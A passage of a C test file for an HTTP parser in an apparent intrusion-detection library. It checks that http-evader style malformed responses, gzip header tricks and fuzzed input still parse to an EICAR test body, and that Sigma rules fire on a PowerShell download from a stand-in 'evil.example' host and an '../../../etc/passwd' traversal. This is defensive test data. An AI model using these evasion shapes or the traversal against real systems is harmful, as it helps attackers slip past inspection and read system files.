                                    "HTTP/1.1 200 OK\r\nContent-Encoding: gzip, deflate\r\n"
                                    "Content-Length: %zu\r\n\r\n", n2);
        memcpy(resp + n, z2, n2);
        stream_t a = { (const uint8_t *)rq, strlen(rq) }, b = { resp, n + n2 };
        got_t g2 = { 0 };
        run(&g2, a, b, NULL, 0, NULL, 0, 0);
        ASSERT_BUF(&g2.tx[1], HTTP_RESPONSE_BODY, eicar);
        got_free(&g2);
        check_splits(a, b, 0);
    }
    /* not compressed after all, and an unknown coding: kept as they came */
    got_t g = { 0 };
    run_whole(&g, rq, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 5\r\n\r\nplain");
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "plain");
    got_free(&g);
    run_whole(&g, rq, "HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 5\r\n\r\nbrbrb");
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "brbrb");
    got_free(&g);
}

/* ---------------------------------------------------------- http-evader */

/* Response heads as libhtp's response parser and browsers read them (the
 * shapes of the http-evader cases, noxxi.de/research/http-evader.html):
 * each is read to the same body, whole and however it is cut. */
Test(http_evader, response_heads_as_browsers_read_them, .timeout = 600)
{
#define S(lit) { lit, sizeof lit - 1 }
    static const struct { const char *p; size_t n; } v[] = {
        /* 0: a lone CR ends the status line, and a header line */
        S("HTTP/1.1 200 ok\rTransfer-Encoding: chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        S("HTTP/1.1 200 ok\r\nX: y\rContent-Length: 5\r\n\r\nEICAR"),
        /* 2: LF CR is one line end; "\n\r\r\n" ends the head */
        S("HTTP/1.1 200 ok\n\rContent-Length: 5\n\r\r\nEICAR"),
        /* 3: "\r\n\r\r" inside the head is one line end, not its end */
        S("HTTP/1.1 200 ok\r\nConnection: close\r\n\r\rTransfer-Encoding: chunked\r\n\r\n"
          "5\r\nEICAR\r\n0\r\n\r\n"),
        /* 4: a name alone, its value after " :" on a later line */
        S("HTTP/1.1 200 ok\r\nTransfer-Encoding\r\n \r\n :\r\n chunked\r\n\r\n"
          "5\r\nEICAR\r\n0\r\n\r\n"),
        S("HTTP/1.1 200 ok\r\nTransfer-Encoding\r :chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        /* 6: NUL bytes in a name, before its colon, leading a continuation */
        S("HTTP/1.1 200 ok\r\nTransfer\0-encoding:chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        S("HTTP/1.1 200 ok\r\nTransfer-Encoding\0:chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        S("HTTP/1.1 200 ok\r\nTransfer-Encoding:\n\0chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        /* 9: an indented "Name: value" is a header of its own */
        S("HTTP/1.1 200 ok\r\nConnection: close\r\n Transfer-Encoding: chunked\r\n\r\n"
          "5\r\nEICAR\r\n0\r\n\r\n"),
        /* 10: a line of blanks before the body ends the head; before a
         * header or a continuation it is dropped */
        S("HTTP/1.1 200 ok\r\nContent-length: 5\n \nEICAR"),
        S("HTTP/1.1 200 ok\r\nX: y\r\n \r\nContent-Length: 5\r\n\r\nEICAR"),
        S("HTTP/1.1 200 ok\r\nTransfer-Encoding: \r\n \r\n chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        /* 13: a Content-Length with junk is none: read to the close */
        S("HTTP/1.1 200 ok\r\nContent-length: 3 5\r\nConnection: close\r\n\r\nEICAR"),
        S("HTTP/1.1 200 ok\r\nContent-length: 3\r\n 5\r\n\r\nEICAR"),
        /* 15: a 204 / 304 that frames a body has it */
        S("HTTP/1.1 204 ok\r\nContent-Length: 5\r\n\r\nEICAR"),
        S("HTTP/1.1 304 ok\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        /* 17: chunked on HTTP/1.0 */
        S("HTTP/1.0 200 ok\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n"),
        /* 18: no status line at all (HTTP/0.9's shape): all body */
        S("EICAR"),
    };
#undef S
    const char *rq = "GET /eicar.txt HTTP/1.1\r\nHost: evader.example.com\r\n\r\n";
    for (size_t i = 0; i < sizeof v / sizeof v[0]; i++) {
        got_t g = { 0 };
        canh_app_counts_t before = *canh_app_thread_counts();
        stream_t a = { (const uint8_t *)rq, strlen(rq) }, b = { (const uint8_t *)v[i].p, v[i].n };
        run(&g, a, b, NULL, 0, NULL, 0, 0);
        cr_assert_eq(g.ntx, 2, "case %zu: %d tx", i, g.ntx);
        cr_assert(B(&g.tx[1], HTTP_RESPONSE_BODY), "case %zu: no body", i);
        cr_assert(g.tx[1].n[CANH_NB_HTTP_RESPONSE_BODY] == 5 &&
                      memcmp(B(&g.tx[1], HTTP_RESPONSE_BODY), "EICAR", 5) == 0,
                  "case %zu: body '%s'", i, B(&g.tx[1], HTTP_RESPONSE_BODY));
        /* the answer to the request: its fields are on the response's tx */
        ASSERT_BUF(&g.tx[1], HTTP_HOST, "evader.example.com");
        cr_assert_eq(canh_app_thread_counts()->parse_errors, before.parse_errors, "case %zu", i);
        got_free(&g);
        check_splits(a, b, 0);
    }
}

Test(http_evader, header_buffers_of_lenient_heads)
{
    got_t g = { 0 };
    const char *rq = "GET / HTTP/1.1\r\nHost: h\r\n\r\n";
    /* an indented header is a header; a name and its " :" value are one */
    run_whole(&g, rq, "HTTP/1.1 200 ok\r\nConnection: close\r\n Server: evil\r\n"
                      "X-Name\r\n : v\r\nContent-Length: 0\r\n\r\n");
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[1], HTTP_HEADER,
               "Connection: close\r\nServer: evil\r\nX-Name: v\r\nContent-Length: 0\r\n");
    ASSERT_BUF(&g.tx[1], HTTP_SERVER, "evil");
    got_free(&g);
    /* a folded value is still joined with a space */
    run_whole(&g, rq, "HTTP/1.1 200 ok\rX-A: 1\r\n 2\rContent-Length: 0\r\n\r\n");
    ASSERT_BUF(&g.tx[1], HTTP_HEADER, "X-A: 1 2\r\nContent-Length: 0\r\n");
    ASSERT_BUF(&g.tx[1], HTTP_STAT_CODE, "200");
    got_free(&g);
    /* a request's Content-Length is still read by its leading digits, and
     * its lines end at LF only (a lone CR stays in the value) */
    run_whole(&g, "POST / HTTP/1.1\r\nX: a\rb\r\nContent-Length: 5x\r\n\r\nhello", "");
    cr_assert_geq(g.ntx, 1);
    ASSERT_BUF(&g.tx[0], HTTP_REQUEST_BODY, "hello");
    ASSERT_BUF(&g.tx[0], HTTP_HEADER, "X: a\rb\r\nContent-Length: 5x\r\n");
    got_free(&g);
    /* a 204 without framing has no body: the next response answers the
     * next request */
    run_whole(&g, "GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n",
              "HTTP/1.1 204 No\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    cr_assert_eq(g.ntx, 4);
    ASSERT_BUF(&g.tx[3], HTTP_URI, "/2");
    ASSERT_BUF(&g.tx[3], HTTP_RESPONSE_BODY, "ok");
    got_free(&g);
    /* an answer without status line keeps its lines, blank ones too */
    run_whole(&g, rq, "hello\r\n\r\n  world\r\n");
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "hello\r\n\r\n  world\r\n");
    cr_assert_null(B(&g.tx[1], HTTP_STAT_CODE));
    got_free(&g);
    /* a head that ends with the stream (its last CRLF told by nothing after) */
    run_whole(&g, rq, "HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\n");
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_LINE, "HTTP/1.0 200 OK");
    got_free(&g);
}

/* A gzip header zlib refuses (reserved flag bits, a header CRC that is
 * wrong) before good deflate data: inflated as browsers do. */
Test(http_evader, gzip_header_flags_and_crc_not_checked)
{
    const char *eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    static const uint8_t flags[] = { 0x02, 0x20, 0x40, 0x80, 0x02 | 0x08 };
    const char *rq = "GET /e HTTP/1.1\r\nHost: h\r\n\r\n";
    for (size_t i = 0; i < sizeof flags; i++) {
        uint8_t z[256], body[512], resp[1024];
        size_t zn = squeeze(eicar, -15, z, sizeof z), bn = 0;
        const uint8_t head[10] = { 0x1f, 0x8b, 8, flags[i], 0, 0, 0, 0, 0, 3 };
        memcpy(body, head, 10);
        bn = 10;
        if (flags[i] & 0x08) {
            memcpy(body + bn, "eicar.txt", 10);    /* FNAME with its NUL */
            bn += 10;
        }
        if (flags[i] & 0x02) {
            body[bn++] = 0xab;                     /* not the header's CRC16 */
            body[bn++] = 0xcd;
        }
        memcpy(body + bn, z, zn);
        bn += zn;
        memset(body + bn, 0, 8);                   /* CRC32, ISIZE: not checked */
        bn += 8;
        size_t n = (size_t)snprintf((char *)resp, sizeof resp,
                                    "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n"
                                    "Content-Length: %zu\r\n\r\n", bn);
        memcpy(resp + n, body, bn);
        stream_t a = { (const uint8_t *)rq, strlen(rq) }, b = { resp, n + bn };
        got_t g = { 0 };
        run(&g, a, b, NULL, 0, NULL, 0, 0);
        cr_assert_eq(g.ntx, 2, "case %zu", i);
        ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, eicar);
        got_free(&g);
        check_splits(a, b, 0);
    }
}

/* A request body's Content-Encoding is undone too (Suricata >= 7.0.16,
 * http-post-data-decompression); clear text said to be gzip stays as it
 * came, even where raw deflate would read garbage out of it
 * (http-encoding-gzip-uncompressed). */
Test(http_encoding, request_bodies_decoded_clear_text_kept)
{
    const char *form = "name=john&data=hello";
    uint8_t z[256], rq[1024];
    size_t zn = squeeze(form, 31, z, sizeof z);
    size_t n = (size_t)snprintf((char *)rq, sizeof rq,
                                "POST /hi.php HTTP/1.1\r\nHost: h\r\nContent-Encoding: gzip\r\n"
                                "Content-Length: %zu\r\n\r\n", zn);
    memcpy(rq + n, z, zn);
    const char *resp = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    stream_t a = { rq, n + zn }, b = { (const uint8_t *)resp, strlen(resp) };
    got_t g = { 0 };
    run(&g, a, b, NULL, 0, NULL, 0, 0);
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[0], HTTP_REQUEST_BODY, form);
    got_free(&g);
    check_splits(a, b, 0);
    const char *json = "{\"sdk_version\":11026,\"app_package\":\"com.x\",\"device_id\":\"35\"}";
    char plain[512];
    snprintf(plain, sizeof plain,
             "POST /api HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n%s",
             strlen(json), json);
    run_whole(&g, plain, resp);
    ASSERT_BUF(&g.tx[0], HTTP_REQUEST_BODY, json);
    got_free(&g);
    snprintf(plain, sizeof plain,
             "HTTP/1.1 200 OK\r\nContent-Encoding: deflate\r\nContent-Length: %zu\r\n\r\n%s",
             strlen(json), json);
    run_whole(&g, "GET / HTTP/1.1\r\n\r\n", plain);
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, json);
    got_free(&g);
}

/* ------------------------------------------------------------- garbage */

Test(http_lenient, evasions_clients_accept)
{
    /* shapes from http-evader (suricata-verify http-evader-*): servers send
     * them, browsers accept them, so the parser must see through them */
    got_t g = { 0 };
    const char *rq = "GET /eicar.txt HTTP/1.1\r\nHost: evader.example.com\r\n\r\n";
    static const char *resp[] = {
        /* lower-case protocol */
        "http/1.1 200 ok\r\nContent-length: 5\r\n\r\nEICAR",
        /* repeated Content-Length: the first */
        "HTTP/1.1 200 ok\r\nContent-length: 5\r\nContent-length: 2\r\n\r\nEICAR",
        /* chunked among other codings, in repeated headers */
        "HTTP/1.1 200 ok\r\nTransfer-Encoding: lalala\r\nTransfer-Encoding: chunked\r\n\r\n"
        "5\r\nEICAR\r\n0\r\n\r\n",
        /* chunk sizes with junk: "f\r\r\n", "5x", a leading CR, an empty line first */
        "HTTP/1.1 200 ok\r\nTransfer-Encoding: chunked\r\n\r\n\r\n2\r\r\nEI\r\n2x\r\nCA\r\n\r1;a\r\nR\r\n0\r\n\r\n",
        /* a blank line before the status line (a NUL: below) */
        " \t\r\nHTTP/1.1 200 ok\r\nContent-Length: 5\r\n\r\nEICAR",
        /* a status that is not 3 digits */
        "HTTP/1.1 2xx ok\r\nContent-Length: 5\r\n\r\nEICAR",
        /* a 1xx with a body */
        "HTTP/1.1 100 ok\r\nContent-Length: 5\r\n\r\nEICAR",
        "HTTP/1.1 101 ok\r\nContent-Length: 5\r\n\r\nEICAR",
        /* "chunked" inside another word, after junk (http-evader 063, ...) */
        "HTTP/1.1 200 ok\r\nTransfer-Encoding: x\xa0" "CHUNKED;\r\n\r\n5\r\nEICAR\r\n0\r\n\r\n",
        /* chunked in HTTP/1.0, or said but not done: read by the length */
        "HTTP/1.0 200 ok\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\nEICAR",
        "HTTP/1.1 200 ok\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\nEICAR",
        "HTTP/1.1 200 ok\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nEICAR",
        /* a header name ending in a vertical tab */
        "HTTP/1.1 200 ok\r\nContent-length\v: 5\r\n\r\nEICAR",
    };
    for (size_t i = 0; i < sizeof resp / sizeof resp[0]; i++) {
        canh_app_counts_t before = *canh_app_thread_counts();
        cr_assert_eq(run_whole(&g, rq, resp[i]), CANH_APP_HTTP, "case %zu", i);
        cr_assert_eq(g.ntx, 2, "case %zu", i);
        cr_assert(B(&g.tx[1], HTTP_RESPONSE_BODY), "case %zu: no body", i);
        ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "EICAR");
        cr_assert_eq(canh_app_thread_counts()->parse_errors, before.parse_errors);
        got_free(&g);
    }
    static const char nul[] = "\0HTTP/1.1 200 ok\r\nContent-Length: 5\r\n\r\nEICAR";
    run(&g, (stream_t){ (const uint8_t *)rq, strlen(rq) },
        (stream_t){ (const uint8_t *)nul, sizeof nul - 1 }, NULL, 0, NULL, 0, 0);
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "EICAR");
    got_free(&g);
    /* trailing junk after a response is skipped, the next response is read */
    run_whole(&g, "GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n",
              "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokXXXXXXXX\r\n"
              "HTTP/1.1 404 NF\r\nContent-Length: 0\r\n\r\n");
    cr_assert_eq(g.ntx, 4);
    ASSERT_BUF(&g.tx[3], HTTP_STAT_CODE, "404");
    ASSERT_BUF(&g.tx[3], HTTP_URI, "/2");
    got_free(&g);
    /* no protocol on the request line (suricata-verify http-missing-protocol,
     * http-data-after-09): read, with its headers */
    run_whole(&g, "GET /gen.php?g=1\r\nHost: 5.8.88.25\r\nUser-Agent:Mozilla/5.0\r\n\r\n"
                  "POST abcd12345\nUSER abab1212 \"zz\"\n\n",
              "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
              "HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n");
    cr_assert_eq(g.ntx, 4);
    ASSERT_BUF(&g.tx[0], HTTP_URI, "/gen.php?g=1");
    ASSERT_BUF(&g.tx[0], HTTP_HEADER_NAMES, "\r\nHost\r\nUser-Agent\r\n\r\n");
    ASSERT_BUF(&g.tx[0], HTTP_UA, "Mozilla/5.0");
    cr_assert_null(B(&g.tx[0], HTTP_PROTOCOL));
    ASSERT_BUF(&g.tx[1], HTTP_URI_RAW, "abcd12345");
    ASSERT_BUF(&g.tx[3], HTTP_STAT_CODE, "400");
    ASSERT_BUF(&g.tx[3], HTTP_METHOD, "POST");
    got_free(&g);
    /* a Content-Length with no digits: no body */
    run_whole(&g, "POST /x HTTP/1.1\r\nContent-Length: abc\r\n\r\nGET /y HTTP/1.1\r\n\r\n", "");
    cr_assert_eq(g.ntx, 4);
    ASSERT_BUF(&g.tx[1], HTTP_URI, "/y");
    got_free(&g);
}

Test(http_garbage, stops_the_flow_counted)
{
    static const char *bad[][2] = {
        { "GET / HTTP/1.1\r\n\r\n\x01\x02\x03 not http\r\n\r\n", "" },
        { "GET / HTTP/1.1\r\n\r\nSSH-2.0-x\r\n", "" },
        { "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "" },
        { "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
          "fffffffffffffffffffff\r\n", "" },
        { "GET / HTTP/1.1\r\n\r\nGARBAGE\r\n\r\n", "" },
        { "GET / HTTP/1.1\r\n\r\nGET\r\n\r\n", "" },
        { "GET / HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nX: y\r\n\r\n\x80\x81", "" },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        canh_app_counts_t before = *canh_app_thread_counts();
        got_t g = { 0 };
        cr_assert_eq(run_whole(&g, bad[i][0], bad[i][1]), CANH_APP_FAILED, "case %zu", i);
        const canh_app_counts_t *c = canh_app_thread_counts();
        cr_assert_eq(c->parse_errors, before.parse_errors + 1, "case %zu", i);
        cr_assert_eq(c->flows[CANH_APP_FAILED], before.flows[CANH_APP_FAILED] + 1);
        got_free(&g);
    }

    /* a header block past the cap */
    size_t n = 40 * 1024;
    char *big = malloc(n + 64);
    strcpy(big, "GET / HTTP/1.1\r\nX: ");
    memset(big + 19, 'a', n);
    strcpy(big + 19 + n, "\r\n\r\n");
    got_t g = { 0 };
    cr_assert_eq(run_whole(&g, big, ""), CANH_APP_FAILED);
    cr_assert_eq(g.ntx, 0);
    free(big);
}

Test(http_garbage, random_bytes_never_crash)
{
    /* a valid start, then random bytes cut at random places, both ways
     * (run it under ASan to see reads outside the buffers) */
    srand(14);
    for (int it = 0; it < 3000; it++) {
        uint8_t c2s[300], s2c[300];
        size_t nc = 20 + (size_t)(rand() % 280), ns = 10 + (size_t)(rand() % 290);
        memcpy(c2s, "POST /x HTTP/1.1\r\n", 18);
        memcpy(s2c, "HTTP/1.1 ", 9);
        const char alpha[] = "\r\n: \t0123456789abcdefABCDEF;,chunkedContent-LengthTransfer-Encoding";
        for (size_t k = 18; k < nc; k++)
            c2s[k] = rand() % 4 ? (uint8_t)alpha[rand() % (sizeof alpha - 1)] : (uint8_t)rand();
        for (size_t k = 9; k < ns; k++)
            s2c[k] = rand() % 4 ? (uint8_t)alpha[rand() % (sizeof alpha - 1)] : (uint8_t)rand();
        size_t cut0 = 1 + (size_t)rand() % (nc - 1), cut1 = 1 + (size_t)rand() % (ns - 1);
        got_t g = { 0 };
        run(&g, (stream_t){ c2s, nc }, (stream_t){ s2c, ns }, &cut0, 1, &cut1, 1,
            (size_t)(1 + rand() % 64));
        got_free(&g);
    }
}

Test(http_gap, gap_reports_pending_then_resyncs)
{
    canh_app_t *a = canh_app_new(NULL);
    got_t g = { 0 };
    const char *r = "POST /g HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc";
    canh_app_stream(a, NULL, 0, (const uint8_t *)r, strlen(r), 0, collect, &g);
    cr_assert_eq(g.ntx, 0);
    /* bytes lost: the pending request goes with what came; then the rest
     * of a line and a line that is no start line are skipped */
    const char *after = "xyz\r\nmore body\r\nGET /next HTTP/1.1\r\n\r\n";
    canh_app_stream(a, NULL, 0, (const uint8_t *)after, strlen(after), CANH_STREAM_GAP, collect, &g);
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[0], HTTP_REQUEST_BODY, "abc");
    ASSERT_BUF(&g.tx[1], HTTP_URI, "/next");
    const char *resp = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
    canh_app_stream(a, NULL, 1, (const uint8_t *)resp, strlen(resp), 0, collect, &g);
    cr_assert_eq(g.ntx, 3);
    ASSERT_BUF(&g.tx[2], HTTP_STAT_CODE, "200");
    cr_assert_null(B(&g.tx[2], HTTP_URI), "after a gap responses are not paired");
    cr_assert_eq(canh_app_proto(a), CANH_APP_HTTP, "a gap is not a parse error");
    canh_app_free(a);
    got_free(&g);
}

Test(http_gap, capture_starting_mid_response)
{
    /* the server's first bytes seen are the tail of a body: not told; the
     * client's request tells HTTP; the server's side resyncs on its next
     * response */
    canh_app_counts_t before = *canh_app_thread_counts();
    canh_app_t *a = canh_app_new(NULL);
    got_t g = { 0 };
    const char *tail = "ody of an earlier response\r\n</html>\r\n";
    canh_app_stream(a, NULL, 1, (const uint8_t *)tail, strlen(tail), 0, collect, &g);
    cr_assert_eq(canh_app_proto(a), CANH_APP_UNKNOWN);
    const char *rq = "GET /x HTTP/1.1\r\nHost: h\r\n\r\n";
    canh_app_stream(a, NULL, 0, (const uint8_t *)rq, strlen(rq), 0, collect, &g);
    cr_assert_eq(canh_app_proto(a), CANH_APP_HTTP);
    const char *more = "more tail\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nz";
    canh_app_stream(a, NULL, 1, (const uint8_t *)more, strlen(more), 0, collect, &g);
    cr_assert_eq(g.ntx, 2);
    ASSERT_BUF(&g.tx[1], HTTP_STAT_CODE, "404");
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "z");
    cr_assert_eq(canh_app_thread_counts()->parse_errors, before.parse_errors);
    canh_app_free(a);
    got_free(&g);
}

/* -------------------------------------------------------- Sigma events */

typedef struct sigma_ctx {
    canh_matcher_t *m;
    const canh_ruleset_t *rs;
    canh_flow_info_t fi;
    canh_event_t *ev;
    int nevents;
    char matched[8][128];
    int nmatched;
    char url[256], ua[256], src[64], status[8];
} sigma_ctx_t;

static void on_tx(void *ud, canh_flow_t *f, const canh_app_tx_t *tx)
{
    (void)f;
    sigma_ctx_t *c = ud;
    canh_arena_reset(c->ev->arena);
    int rc = canh_app_event(tx, &c->fi, tx->dir, c->ev);
    if (rc == CANH_ENOENT)
        return;
    cr_assert_eq(rc, CANH_OK);
    c->nevents++;
    const canh_field_t *x;
#define COPY(id, dst) \
    if ((x = canh_event_get(c->ev, id))) snprintf(dst, sizeof dst, "%.*s", (int)x->value.len, x->value.ptr)
    COPY(CANH_F_URL_ORIGINAL, c->url);
    COPY(CANH_F_USER_AGENT, c->ua);
    COPY(CANH_F_SOURCE_IP, c->src);
    COPY(CANH_F_HTTP_STATUS, c->status);
#undef COPY
    uint32_t out[16];
    int n = canh_matcher_match(c->m, c->ev, out, 16);
    cr_assert_geq(n, 0);
    for (int k = 0; k < n && c->nmatched < 8; k++)
        snprintf(c->matched[c->nmatched++], 128, "%s", canh_ruleset_rule(c->rs, out[k])->title);
}

static void refuse(void *ud, const char *file, int line, const char *id, const char *reason)
{
    (void)ud;
    cr_assert_fail("%s:%d %s refused: %s", file, line, id ? id : "", reason);
}

Test(app_event, sigma_proxy_and_webserver_rules_fire_on_traffic)
{
    char err[512];
    canh_fieldmap_t *fm = NULL;
    cr_assert_eq(canh_fieldmap_load(&fm, "conf/fieldmap.yml", err, sizeof err), CANH_OK, "%s", err);
    canh_rulevec_t rv = { 0 };
    const char *base = "../shared/corpus/rules/sigma/rules/web/";
    const char *files[] = { "proxy_generic/proxy_ua_powershell.yml",
                            "webserver_generic/web_path_traversal_exploitation_attempt.yml" };
    for (size_t i = 0; i < 2; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s%s", base, files[i]);
        size_t loaded = 0;
        cr_assert_eq(canh_sigma_load_path(fm, path, &rv, refuse, NULL, &loaded, NULL, err,
                                          sizeof err), CANH_OK, "%s", err);
        cr_assert_eq(loaded, 1, "%s", path);
    }
    canh_ruleset_t *rs = NULL;
    cr_assert_eq(canh_ruleset_build(&rs, &rv, refuse, NULL, err, sizeof err), CANH_OK, "%s", err);
    sigma_ctx_t c = { 0 };
    c.rs = rs;
    c.m = canh_matcher_new(rs, err, sizeof err);
    cr_assert(c.m, "%s", err);
    canh_arena_t arena;
    canh_arena_init(&arena, 4096);
    c.ev = calloc(1, sizeof *c.ev);
    c.ev->arena = &arena;
    c.fi.ipver = 4;
    memcpy(c.fi.client, (uint8_t[]){ 192, 0, 2, 7 }, 4);
    memcpy(c.fi.server, (uint8_t[]){ 198, 51, 100, 1 }, 4);
    c.fi.cport = 50123;
    c.fi.sport = 80;
    c.fi.last_us = INT64_C(1700000000) * 1000000;

    /* a PowerShell download through the flow; the request as Windows'
     * Invoke-WebRequest sends it */
    const char *rq = "GET /payload.ps1?x=1 HTTP/1.1\r\n"
                     "User-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1\r\n"
                     "Host: evil.example:80\r\nConnection: Keep-Alive\r\n\r\n";
    const char *rs_ = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    canh_app_t *a = canh_app_new(NULL);
    canh_app_stream(a, NULL, 0, (const uint8_t *)rq, strlen(rq), 0, on_tx, &c);
    cr_assert_eq(c.nevents, 0, "the request alone waits for its response");
    canh_app_stream(a, NULL, 1, (const uint8_t *)rs_, strlen(rs_), 0, on_tx, &c);
    cr_assert_eq(c.nevents, 1);
    cr_assert_eq(c.nmatched, 1);
    cr_assert(strstr(c.matched[0], "PowerShell"), "%s", c.matched[0]);
    cr_assert_str_eq(c.url, "/payload.ps1?x=1");
    cr_assert_str_eq(c.src, "192.0.2.7");
    cr_assert_str_eq(c.status, "200");
    cr_assert(canh_event_get(c.ev, CANH_F_URL_DOMAIN));
    cr_assert_eq(strncmp(canh_event_get(c.ev, CANH_F_URL_DOMAIN)->value.ptr, "evil.example", 12), 0);
    cr_assert(c.ev->datasets & CANH_DS_BIT(CANH_DS_WEBSERVER));
    cr_assert(c.ev->datasets & CANH_DS_BIT(canh_dataset_lookup("proxy", 5)));
    canh_app_free(a);

    /* a path traversal never answered: the event comes at the flow's end */
    c.nevents = c.nmatched = 0;
    a = canh_app_new(NULL);
    const char *trav = "GET /cgi-bin/view?file=../../../etc/passwd HTTP/1.0\r\nUser-Agent: curl\r\n\r\n";
    canh_app_stream(a, NULL, 0, (const uint8_t *)trav, strlen(trav), 0, on_tx, &c);
    cr_assert_eq(c.nevents, 0);
    canh_app_stream(a, NULL, 0, NULL, 0, CANH_STREAM_END, on_tx, &c);
    canh_app_stream(a, NULL, 1, NULL, 0, CANH_STREAM_END, on_tx, &c);
    cr_assert_eq(c.nevents, 1);
    cr_assert_eq(c.nmatched, 1);
    cr_assert(strstr(c.matched[0], "Traversal") || strstr(c.matched[0], "traversal"), "%s",
              c.matched[0]);
    cr_assert_null(canh_event_get(c.ev, CANH_F_HTTP_STATUS));
    canh_app_free(a);

    /* an ordinary request matches neither */
    c.nevents = c.nmatched = 0;
    got_t g = { 0 };
    (void)g;
    a = canh_app_new(NULL);
    stream_t tc = slurp("tests/data/http/testmyids.c2s"), ts = slurp("tests/data/http/testmyids.s2c");
    canh_app_stream(a, NULL, 0, tc.p, tc.n, 0, on_tx, &c);
    canh_app_stream(a, NULL, 1, ts.p, ts.n, 0, on_tx, &c);
    cr_assert_eq(c.nevents, 1);
    cr_assert_eq(c.nmatched, 0);
    cr_assert_str_eq(c.ua, "curl/7.43.0");
    canh_app_free(a);

    canh_matcher_free(c.m);
    canh_ruleset_free(rs);
    canh_rulevec_free(&rv);
    canh_fieldmap_free(fm);
    canh_arena_free(&arena);
    free(c.ev);
}

Test(app_event, dns_query_event)
{
    char err[512];
    canh_fieldmap_t *fm = NULL;
    cr_assert_eq(canh_fieldmap_load(&fm, "conf/fieldmap.yml", err, sizeof err), CANH_OK, "%s", err);
    canh_arena_t arena;
    canh_arena_init(&arena, 4096);
    canh_event_t *ev = calloc(1, sizeof *ev);
    ev->arena = &arena;
    canh_app_tx_t tx;
    memset(&tx, 0, sizeof tx);
    tx.proto = CANH_APP_DNS;
    tx.buf[CANH_NB_DNS_QUERY].p = (const uint8_t *)"pastebin.com";
    tx.buf[CANH_NB_DNS_QUERY].n = 12;
    tx.dns_qtype = 16;
    canh_flow_info_t fi = { .ipver = 6, .cport = 5353, .sport = 53 };
    fi.client[15] = 1;
    fi.server[0] = 0x20;
    fi.server[1] = 0x01;
    cr_assert_eq(canh_app_event(&tx, &fi, 0, ev), CANH_OK);
    cr_assert(ev->datasets & CANH_DS_BIT(canh_dataset_lookup("dns", 3)));
    const canh_field_t *x = canh_event_get(ev, CANH_F_DNS_QUESTION_NAME);
    cr_assert(x && x->value.len == 12 && memcmp(x->value.ptr, "pastebin.com", 12) == 0);
    x = canh_event_get(ev, CANH_F_DNS_QUESTION_TYPE);
    cr_assert(x && x->value.len == 3 && memcmp(x->value.ptr, "TXT", 3) == 0);
    x = canh_event_get(ev, CANH_F_SOURCE_IP);
    cr_assert(x && x->value.len == 3 && memcmp(x->value.ptr, "::1", 3) == 0);
    x = canh_event_get(ev, CANH_F_DESTINATION_PORT);
    cr_assert(x && x->value.len == 2 && memcmp(x->value.ptr, "53", 2) == 0);
    /* an answer makes no event; nor does a TLS hello */
    tx.dns_is_response = 1;
    cr_assert_eq(canh_app_event(&tx, &fi, 1, ev), CANH_ENOENT);
    cr_assert_eq(ev->nfields, 0);
    tx.proto = CANH_APP_TLS;
    cr_assert_eq(canh_app_event(&tx, &fi, 0, ev), CANH_ENOENT);
    cr_assert_eq(canh_app_event(NULL, &fi, 0, ev), CANH_EINVAL);
    canh_fieldmap_free(fm);
    canh_arena_free(&arena);
    free(ev);
}

Test(http_garbage, mutated_streams_same_whatever_the_cuts, .timeout = 600)
{
